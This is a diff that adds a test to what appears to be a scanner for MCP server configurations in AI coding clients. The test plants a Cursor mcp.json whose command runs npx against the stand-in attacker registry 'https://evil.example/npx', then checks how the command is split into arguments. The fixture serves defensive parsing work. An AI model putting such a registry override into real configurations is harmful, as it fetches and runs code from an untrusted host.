@@ -275,3 +275,16 @@ describe('MCP servers of every client', () => {
     expect(told.sort()).toEqual(['named 1', 'usual 1']);
   });
 });
+
+test('of a line that was written as the command each word is told, whatever it ends in', async () => {
+  const root = makeFolder();
+  const command = 'npx --registry=https://evil.example/npx';
+  plant(root, {
+    'home/alice/.cursor/mcp.json': { mcpServers: { a: { command, args: ['-y', 'files'] } } },
+  });
+  const { entities } = await scanTree([mcpConfig], root, { people: ['alice'] });
+  const args = ['--registry=https://evil.example/npx', '-y', 'files'];
+  expect(entities.map((one) => one.wire.details)).toMatchObject([
+    { configured: [{ command: 'npx', args }] },
+  ]);
+});
